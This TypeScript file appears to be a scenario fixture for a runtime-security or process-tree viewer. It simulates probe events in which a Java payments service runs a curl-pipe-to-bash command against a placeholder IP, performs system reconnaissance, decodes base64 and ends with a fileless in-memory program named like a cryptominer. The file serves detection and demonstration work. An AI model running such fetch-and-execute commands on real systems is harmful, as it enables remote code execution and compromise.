import { tcpConnect } from '../events/probe_bodies';
import type { Scenario } from '../scenario';

export const javaDownloadBash: Scenario = {
  id: 'java_download_bash',
  title: 'A Java service runs sh -c "curl … | bash"',
  reads:
    'The Java service of payments/api started a shell, which it never does in its sibling pods: a script ' +
    'was fetched with curl and piped into bash. The script looked at the system in a subshell (which only ' +
    'forked: no exec, but an exit), and at last python3 became a program that exists in memory alone ' +
    '(binary_properties: 0 links). That program still runs.',
  lineage: `
sh -c "curl -s http://203.0.113.77/i.sh | bash" · exit 0
├─ curl -s http://203.0.113.77/i.sh · tcp_connect POST · exit 0
└─ bash · exit 0
   ├─ uname -a · exit 0
   ├─ bash · forked · exit 0
   │  ├─ cat /etc/os-release · exit 0
   │  └─ head -1 · exit 0
   ├─ base64 -d · exit 0
   └─ python3 /tmp/.p.py · replaced
      └─ memfd:kdevtmpfsi --quiet
`,
  tell({ world, scene }) {
    const pod = world.pod('prod-eu', 'payments', 'api', 1);
    const stage = scene(44);
    const { init: java } = stage.container(pod);
    const sh = stage.spawn(java, ['/usr/bin/sh', '-c', 'curl -s http://203.0.113.77/i.sh | bash']);
    const curl = stage.spawn(sh, ['/usr/bin/curl', '-s', 'http://203.0.113.77/i.sh']);
    const bash = stage.spawn(sh, ['/usr/bin/bash']);
    stage.wait(9);
    stage.probe(
      'process_kprobe',
      curl,
      tcpConnect('network-connect', {
        from: '10.244.2.31',
        to: '203.0.113.77',
        fromPort: 52_114,
        port: 80,
      }),
    );
    stage.wait(210);
    stage.exit(curl);
    stage.run(bash, ['/usr/bin/uname', '-a']);
    const subshell = stage.fork(bash);
    stage.run(subshell, ['/usr/bin/cat', '/etc/os-release']);
    stage.run(subshell, ['/usr/bin/head', '-1']);
    stage.exit(subshell);
    stage.run(bash, ['/usr/bin/base64', '-d']);
    const python = stage.spawn(bash, ['/usr/bin/python3', '/tmp/.p.py']);
    stage.wait(420);
    const inMemory = stage.replace(python, ['/memfd:kdevtmpfsi', '--quiet'], {
      binaryProperties: { file: { inode: { number: '40961', links: 0 } } },
    });
    stage.wait(80);
    stage.exit(bash);
    stage.exit(sh);
    return { top: sh, service: java, download: curl, script: bash, subshell, inMemory };
  },
};
